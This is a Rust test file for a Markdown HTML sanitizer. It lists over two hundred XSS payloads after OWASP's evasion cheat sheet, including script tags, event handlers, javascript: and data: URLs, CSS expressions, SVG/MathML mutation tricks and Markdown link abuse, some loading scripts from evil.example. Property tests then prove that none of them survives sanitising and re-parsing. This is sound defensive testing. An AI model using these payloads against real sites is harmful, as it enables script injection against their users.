//! What people write into texts to make them do something, and the proof that nothing of it is left.
//!
//! The proof does not look for words in the HTML, as a filter would. It has a browser's parser read the HTML in the ways
//! in which a front end may embed it, writes the tree out and reads it again, since what is harmless at first sight may
//! come alive when it moves. Each time it looks at every node.

use std::collections::BTreeSet;

use entities::Markdown;
use html5ever::{
    Attribute, LocalName, ParseOpts, QualName, ns, parse_document, parse_fragment,
    serialize::{SerializeOpts, serialize},
    tendril::TendrilSink,
    tree_builder::TreeBuilderOpts,
};
use markup5ever_rcdom::{Handle, NodeData, RcDom, SerializableHandle};
use proptest::prelude::*;

use super::{Image, SCHEMES, outline, parse, safe_html};

/// One attack each, after the kinds in the XSS Filter Evasion Cheat Sheet of OWASP, and those that Markdown adds.
const ATTACKS: &[&str] = &[
    // Scripts, and ways to write them that filters overlook.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=\"https://evil.example/x.js\"></script>",
    "<script\n\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script src=//evil.example/x.js",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>a=/XSS/\nalert(a.source)</script >",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\\\";alert(1);//</script><script>alert(2)</script>",
    "<script type=\"text/template\"><!-- </script><img src=x onerror=alert(1)> -->",
    "<script x> alert(1) </script 1=2",
    "<SCRIPT a=\">\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"https://evil.example/x.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
    "<script>document.write(\"<SCRI\");</script>PT SRC=\"https://evil.example/x.js\"></script>",
    "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=\"x\"><script>alert(1)</a></script>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src= onmouseover=\"alert(1)\">",
    "<img onmouseover=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<p onclick=alert(1)>a</p>",
    "<details open ontoggle=alert(1)>a</details>",
    "<b onpointerover=alert(1)>a</b>",
    "<div onfocus=alert(1) tabindex=1 autofocus>a</div>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<xss onafterscriptexecute=alert(1)>a</xss>",
    "<xss contenteditable onbeforeinput=alert(1)>a</xss>",
    "<a onmouseover=\"alert(1)\">a</a>",
    "<a href=x style=x onclick\n=\nalert(1)>a</a>",
    "<bdo dir=rtl onmouseover=alert(1)>a</bdo>",
    "<ruby onclick=alert(1)>漢<rt onclick=alert(1)>かん</rt></ruby>",
    "<td onclick=alert(1)>a",
    // Addresses.
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href=\"livescript:alert(1)\">a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
    "<a href=\"jav\tascript:alert(1)\">a</a>",
    "<a href=\"jav\nascript:alert(1)\">a</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">a</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">a</a>",
    "<a href=\"jav&Tab;ascript&colon;alert&lpar;1&rpar;\">a</a>",
    "<a href=\"javascript&NewLine;:alert(1)\">a</a>",
    "<a href=\" &#14;  javascript:alert(1)\">a</a>",
    "<a href=\"&#x1;javascript:alert(1)\">a</a>",
    "<a href=\"&#0;javascript:alert(1)\">a</a>",
    "<a href=\"java&#0;script:alert(1)\">a</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;(1)>a</a>",
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>a</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>a</a>",
    "<a href=`javascript:alert(\"1\")`>a</a>",
    "<a href=\"\u{feff}javascript:alert(1)\">a</a>",
    "<a href=\"\u{a0}javascript:alert(1)\">a</a>",
    "<a href=\"ｊavascript:alert(1)\">a</a>",
    "<a href=\"javascript://%0aalert(1)//https://example.org\">a</a>",
    "<a href=\"feed:javascript:alert(1)\">a</a>",
    "<a href=\"view-source:javascript:alert(1)\">a</a>",
    "<a href=\"blob:https://example.org/x\">a</a>",
    "<a href=\"file:///etc/passwd\">a</a>",
    "<a href=\"intent://x#Intent;scheme=javascript;end\">a</a>",
    "<a href=\"ms-msdt:/id PCWDiagnostic\">a</a>",
    "<a href=x href=javascript:alert(1)>a</a>",
    "<a href=javascript:alert(1) href=x>a</a>",
    "<a xlink:href=\"javascript:alert(1)\">a</a>",
    "<a href=https://example.org ping=https://evil.example target=_top download>a</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=javascript:alert(&quot;1&quot;)>",
    "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=\"javascript:alert(1)\">",
    "<blockquote cite=\"javascript:alert(1)\">a</blockquote>",
    "<q cite=\"jav&#x09;ascript:alert(1)\">a</q>",
    "<del cite=data:text/html,x>a</del>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">a</td></table>",
    "<body background=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">",
    // Styles.
    "<p style=\"background:url(javascript:alert(1))\">a</p>",
    "<div style=\"width:expression(alert(1))\">a</div>",
    "<div style=\"xss:expr/*XSS*/ession(alert(1))\">a</div>",
    "<div style=\"background-image:\\0075\\0072\\006C\\0028'javascript:alert(1)'\\0029\">a</div>",
    "<table><tr><td style=\"text-align:right;background:url(javascript:alert(1));position:fixed\">a</td></tr></table>",
    "<table><tr><td style=\"text-align:expression(alert(1))\">a</td></tr></table>",
    "<table><tr><th style=\"text-align:left;behavior:url(x.htc);-moz-binding:url(x.xml#x)\">a</th></tr></table>",
    "<table><tr><td style=\"text-align:left&quot; onclick=&quot;alert(1)\">a</td></tr></table>",
    "<table><tr><td style='text-align:\"><script>alert(1)</script>'>a</td></tr></table>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{-moz-binding:url(\"https://evil.example/x.xml#x\")}</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>a</ul>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=data:text/html,x>",
    "<xss style=\"behavior:url(xss.htc)\">a</xss>",
    // Elements that load, embed, redirect or ask.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc='&lt;img src&equals;x onerror&equals;alert(1)&gt;'>",
    "<iframe src=//evil.example <",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<object classid=clsid:ae24fdae><param name=url value=javascript:alert(1)></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\" type=image/svg+xml allowscriptaccess=always>",
    "<applet code=evil archive=//evil.example/x.jar></applet>",
    "<base href=\"javascript:alert(1);//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1);\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    "<meta charset=utf-7>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>a</button></form>",
    "<button form=f formaction=data:text/html,x>a</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>a</select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)>a</dialog>",
    "<portal src=https://evil.example></portal>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<div is=evil-element>a</div>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    // SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>\" /></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
    "<math><a xlink:href=\"javascript:alert(1)\">a</a></math>",
    "<math href=\"javascript:alert(1)\">a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    // What changes when it is read a second time.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><desc><noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></desc></svg>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title=\"`onmouseover=alert(1)`\">a</p>",
    "<a title=\"--><img src=x onerror=alert(1)>\">a</a>",
    "<table><caption><svg><title><table><caption></svg><style><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<p><b><a><table><a href=javascript:alert(1)>a</table></a></b></p>",
    // Comments and other declarations.
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<? foo=\"><script>alert(1)</script>\">",
    "<!foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "<xml><i><b><img src=\"javas<!-- -->cript:alert(1)\"></b></i></xml>",
    // Names that would stand in for the page's own.
    "<img name=getElementById src=x>",
    "<a id=defaultView href=x>a</a>",
    "<div id=location>a</div><div class=\"modal login\">a</div>",
    // Markdown's own ways.
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&#10;script:alert(1))",
    "[a](\\j\\a\\vascript:alert\\(1\\))",
    "[a](&#1;javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a][b]\n\n[b]: javascript:alert(1) \"title\"",
    "[javascript:alert(1)]: javascript:alert(1)\n\n[javascript:alert(1)]",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    "![a](javascript:alert(1))",
    "![a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a][b]\n\n[b]: data:image/svg+xml,x",
    "![\"onerror=\"alert(1)](x)",
    "![a](x \"\\\" onerror=alert(1) x=\\\"\")",
    "[a](x '\" onmouseover=\"alert(1)')",
    "[a](x \"&quot; onmouseover=&quot;alert(1)\")",
    "[a](x\"onmouseover=alert(1))",
    "[a](<x\" onmouseover=\"alert(1)>)",
    "[<img src=x onerror=alert(1)>](x)",
    "[![a](javascript:alert(1))](javascript:alert(1))",
    "a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: note",
    "a[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "a[^x' onclick='alert(1)]\n\n[^x' onclick='alert(1)]: [b](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| <script>alert(1)</script> |\n|:-:|\n| [a](javascript:alert(1)) |",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```js onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<script>alert(1)</script>`</code><script>alert(1)</script>",
    "# <svg onload=alert(1)> {#x onclick=alert(1)}",
    "- <li onclick=alert(1)>\n  1. <ol onclick=alert(1)>",
    "> <blockquote onclick=alert(1)>\n> [a]: javascript:alert(1)\n\n[a]",
    "~~<s onclick=alert(1)>~~",
    "**<b onclick=alert(1)**>",
    "<div>\n\n[a](javascript:alert(1))\n\n<script>\n\nalert(1)\n\n</script>",
    "<a href=\"\n\njavascript:alert(1)\">a</a>",
    "<p title='\n\n<img src=x onerror=alert(1)>'>",
];

/// With control characters, which a [`Markdown`] cannot have.
const REFUSED: &[&str] = &[
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href=\"java\0script:alert(1)\">a</a>",
    "<a href=\"\u{1}javascript:alert(1)\">a</a>",
    "<a href=\"jav\rascript:alert(1)\">a</a>",
    "<img\u{c}src=x\u{c}onerror=alert(1)>",
    "<img\u{b}src=x\u{b}onerror=alert(1)>",
    "[a](java\0script:alert(1))",
    "[a](\u{1f}javascript:alert(1))",
    "[a](\u{7f}javascript:alert(1))",
    "<a href=\"\u{80}javascript:alert(1)\">a</a>",
    "\u{1b}[31m<img src=x onerror=alert(1)>",
    "\u{8}<script>alert(1)</script>",
];

/// What attacks are made of, and what they hide in.
const PIECES: &[&str] = &[
    "<",
    ">",
    "\"",
    "'",
    "`",
    "&",
    "=",
    "/",
    "\\",
    " ",
    "\n",
    "\n\n",
    "\t",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "](",
    ")",
    "[",
    "![",
    "[a](",
    "[^1]",
    "[^1]: ",
    "|",
    "\n|---|\n",
    "\n> ",
    "\n- ",
    "\n```\n",
    "**",
    "~~",
    "javascript:",
    "data:",
    "&#x6a;avascript:",
    "java\tscript:",
    "onerror=alert(1)",
    " onclick=alert(1) ",
    "style=\"text-align:left;",
    "<svg>",
    "</svg>",
    "<math>",
    "</math>",
    "<mtext>",
    "<mglyph>",
    "<malignmark>",
    "<annotation-xml>",
    "<foreignObject>",
    "<desc>",
    "<title>",
    "</title>",
    "<style>",
    "</style>",
    "<table>",
    "</table>",
    "<caption>",
    "<tr>",
    "<td ",
    "</td>",
    "<select>",
    "<option>",
    "<template>",
    "</template>",
    "<noscript>",
    "</noscript>",
    "<noembed>",
    "<xmp>",
    "<textarea>",
    "<plaintext>",
    "<form>",
    "</form>",
    "<p>",
    "</p>",
    "<p title=\"",
    "<a href=\"",
    "</a>",
    "<img src=",
    "<img alt=\"",
    "<ruby>",
    "<rt>",
    "<bdi dir=\"",
    "<br>",
    "</br>",
    "<li>",
    "<b>",
    "</b>",
    "<script>",
    "</script>",
    "<iframe srcdoc=\"",
    "<details>",
    "<h1>",
    "https://example.org/",
    "//example.org/",
    "#x",
    "漢字",
    "עברית",
    "👩‍👩‍👧",
    "\u{202e}",
];

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

const ATTRIBUTES: &[&str] = &[
    "align", "alt", "char", "charoff", "cite", "class", "colspan", "datetime", "dir", "headers", "height", "href",
    "hreflang", "id", "lang", "rel", "rowspan", "scope", "size", "span", "src", "start", "style", "summary", "title",
    "width",
];

/// What a tree leads to and shows, gathered on the way through it.
#[derive(Debug, Default, PartialEq, Eq)]
struct Seen {
    links: BTreeSet<String>,
    images: BTreeSet<(String, bool)>,
}

/// How a front end may embed a text.
#[derive(Clone, Copy, Debug)]
enum Embedding {
    /// In the page that the server sends, for browsers with scripts and without.
    Document { scripting: bool },
    /// By a script, as the content of such an element.
    Within(&'static str),
}

impl Embedding {
    const ALL: [Self; 5] = [
        Self::Document { scripting: true },
        Self::Document { scripting: false },
        Self::Within("div"),
        Self::Within("template"),
        Self::Within("td"),
    ];

    fn read(self, html: &str) -> RcDom {
        let options = |scripting_enabled| ParseOpts {
            tree_builder: TreeBuilderOpts { scripting_enabled, ..TreeBuilderOpts::default() },
            ..ParseOpts::default()
        };
        match self {
            Self::Document { scripting } => {
                let page = format!("<!DOCTYPE html><html><head></head><body><div>{html}</div></body></html>");
                parse_document(RcDom::default(), options(scripting)).one(page)
            }
            Self::Within(element) => {
                let context = QualName::new(None, ns!(html), LocalName::from(element));
                parse_fragment(RcDom::default(), options(true), context, Vec::new(), true).one(html)
            }
        }
    }
}

/// The address, when it is one that a text may have. Read as browsers do: what surrounds it goes, and so do tabs and line
/// feeds within.
fn is_harmless(address: &str) -> bool {
    let address: String =
        address.trim_matches(|c| c <= ' ').chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let Some((scheme, _)) = address.split_once(':') else { return true };
    let is_scheme = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    !is_scheme || SCHEMES.contains(&scheme.to_ascii_lowercase().as_str())
}

fn check_attribute(element: &str, attribute: &Attribute) -> Result<(), String> {
    let (name, value) = (&*attribute.name.local, attribute.value.trim());
    let fine = match name {
        "href" | "src" | "cite" => is_harmless(&attribute.value),
        "style" => ["left", "center", "right", "start", "end"].iter().any(|side| value == format!("text-align:{side}")),
        "id" => element == "div" && value.starts_with("text-"),
        "class" => value.split_whitespace().all(|class| class.starts_with("footnote-")),
        "rel" => value == "noopener noreferrer",
        _ => ATTRIBUTES.contains(&name) && !name.starts_with("on"),
    };
    let plain = attribute.name.ns == ns!() && attribute.name.prefix.is_none();
    if fine && plain { Ok(()) } else { Err(format!("<{element} {name}={value:?}>")) }
}

/// Looks at every node. What the parser makes of its own accord (`<html>`, `<head>`, `<body>`) is at the top only.
fn walk(root: &Handle, seen: &mut Seen) -> Result<(), String> {
    let mut open: Vec<(Handle, bool)> = vec![(root.clone(), true)];
    while let Some((node, top)) = open.pop() {
        let mut below = false;
        match &node.data {
            NodeData::Element { name, attrs, template_contents, .. } => {
                let element = &*name.local;
                below = top && ["html", "body"].contains(&element);
                let frame = top && ["html", "head", "body"].contains(&element);
                if name.ns != ns!(html)
                    || !(frame || ELEMENTS.contains(&element))
                    || template_contents.borrow().is_some()
                {
                    return Err(format!("<{element}>"));
                }
                let value = |name: &str| {
                    let attributes = attrs.borrow();
                    attributes
                        .iter()
                        .find(|attribute| &*attribute.name.local == name)
                        .map(|found| found.value.to_string())
                };
                for attribute in attrs.borrow().iter() {
                    check_attribute(element, attribute)?;
                }
                match element {
                    "a" => seen.links.extend(value("href")),
                    "img" => {
                        let has_text = value("alt").is_some_and(|text| !text.trim().is_empty());
                        seen.images.insert((value("src").unwrap_or_default(), has_text));
                    }
                    _ => {}
                }
            }
            NodeData::Document => below = true,
            NodeData::Doctype { .. } if top => {}
            NodeData::Text { .. } => {}
            NodeData::Comment { .. } => return Err("a comment".to_owned()),
            NodeData::Doctype { .. } | NodeData::ProcessingInstruction { .. } => return Err("a declaration".to_owned()),
        }
        open.extend(node.children.borrow().iter().map(|child| (child.clone(), below)));
    }
    Ok(())
}

fn write(dom: &RcDom) -> String {
    // The root of a fragment is an element of its own, the content of a page is in its body.
    let mut out = Vec::new();
    serialize(&mut out, &SerializableHandle::from(dom.document.clone()), SerializeOpts::default()).expect("memory");
    String::from_utf8(out).expect("UTF-8")
}

/// What a browser would see of the source, if it is harmless however it is embedded, and again when it is written out and
/// read a second time.
fn prove(source: &str) -> Result<Seen, String> {
    let html = safe_html(&parse(source));
    let mut first = None;
    for embedding in Embedding::ALL {
        let mut seen = Seen::default();
        let dom = embedding.read(&html);
        let fault = |fault: String| format!("{fault} is left of {source:?} in {html:?} ({embedding:?})");
        walk(&dom.document, &mut seen).map_err(fault)?;
        let moved = Embedding::Within("div").read(&write(&dom));
        walk(&moved.document, &mut Seen::default()).map_err(|moved| fault(format!("moved, {moved}")))?;
        first.get_or_insert(seen);
    }
    first.ok_or_else(|| "no embedding".to_owned())
}

fn read(source: &str) -> Markdown {
    source.parse().unwrap_or_else(|rule| panic!("{source:?}: {rule}"))
}

/// The outline has the links and images that a browser sees.
fn compare(source: &str, seen: &Seen) -> Result<(), String> {
    let outline = outline(&read(source));
    let images = outline.images.into_iter().map(|Image { source, has_text }| (source, has_text)).collect();
    let told = Seen { links: outline.links.into_iter().collect(), images };
    if told == *seen { Ok(()) } else { Err(format!("{source:?} shows {seen:?}, but its outline says {told:?}")) }
}

#[test]
fn no_known_attack_leaves_anything_that_acts() {
    let distinct: BTreeSet<_> = ATTACKS.iter().collect();
    assert!(distinct.len() == ATTACKS.len() && ATTACKS.len() >= 200, "{} of {}", distinct.len(), ATTACKS.len());
    for attack in ATTACKS {
        let seen = prove(attack).unwrap_or_else(|fault| panic!("{fault}"));
        compare(attack, &seen).unwrap_or_else(|fault| panic!("{fault}"));
        // Nor where it is part of something else.
        for (before, after) in [
            ("a ", " z"),
            ("> - ", ""),
            ("| a |\n|---|\n| ", " |"),
            ("<table><tr><td>", "</td></tr></table>"),
            ("<p title=\"", "\">a</p>"),
            ("<a href='", "'>a</a>"),
            ("<svg><desc>", "</desc></svg>"),
            ("<!-- ", " -->"),
            ("[", "](x)"),
            ("[a](", ")"),
            ("![a](x \"", "\")"),
            ("a[^1]\n\n[^1]: ", ""),
        ] {
            prove(&format!("{before}{attack}{after}")).unwrap_or_else(|fault| panic!("{fault}"));
        }
    }
}

#[test]
fn control_characters_are_refused_and_would_not_help() {
    for attack in REFUSED {
        assert!(attack.parse::<Markdown>().is_err(), "{attack:?}");
        prove(attack).unwrap_or_else(|fault| panic!("{fault}"));
    }
    let refused = |c: &char| c.to_string().parse::<Markdown>().is_err();
    let all: Vec<u32> = ('\0'..=char::MAX).filter(refused).map(u32::from).collect();
    let expected: Vec<u32> = (0..=8).chain(11..=0x1f).chain(0x7f..=0x9f).collect();
    assert_eq!(all, expected);
}

#[test]
fn the_proof_sees_what_acts() {
    for (html, fault) in [
        ("<script>1</script>", "<script>"),
        ("<svg></svg>", "<svg>"),
        ("<p onclick=1>a</p>", "onclick"),
        ("<a href=\"java&#9;script:1\">a</a>", "href"),
        ("<a href=\" JAVASCRIPT:1\">a</a>", "href"),
        ("<img src=data:,x>", "src"),
        ("<td style='text-align:left;top:0'>", "style"),
        ("<p id=x>", "id"),
        ("<!-- a -->", "comment"),
        ("<template><b>a</b></template>", "<template>"),
    ] {
        let embed = |embedding: Embedding| walk(&embedding.read(html).document, &mut Seen::default());
        let told: Vec<String> = Embedding::ALL.into_iter().filter_map(|embedding| embed(embedding).err()).collect();
        assert!(told.iter().any(|told| told.contains(fault)), "{html}: {told:?}");
    }
}

proptest! {
    #[test]
    fn no_mixture_of_attacks_leaves_anything_that_acts(
        parts in prop::collection::vec(
            prop_oneof![1 => prop::sample::select(ATTACKS), 4 => prop::sample::select(PIECES)],
            1..16,
        )
    ) {
        let source = parts.concat();
        let seen = prove(&source).map_err(TestCaseError::fail)?;
        compare(&source, &seen).map_err(TestCaseError::fail)?;
    }

    #[test]
    fn no_attack_cut_to_pieces_leaves_anything_that_acts(
        parts in prop::collection::vec(
            (prop::sample::select(ATTACKS), any::<prop::sample::Index>(), any::<prop::sample::Index>()),
            1..6,
        )
    ) {
        let cut = |(attack, from, to): (&str, prop::sample::Index, prop::sample::Index)| {
            let chars: Vec<char> = attack.chars().collect();
            let (from, to) = (from.index(chars.len()), to.index(chars.len()));
            chars[from.min(to)..=from.max(to)].iter().collect::<String>()
        };
        let source: String = parts.into_iter().map(cut).collect();
        let seen = prove(&source).map_err(TestCaseError::fail)?;
        compare(&source, &seen).map_err(TestCaseError::fail)?;
    }
}
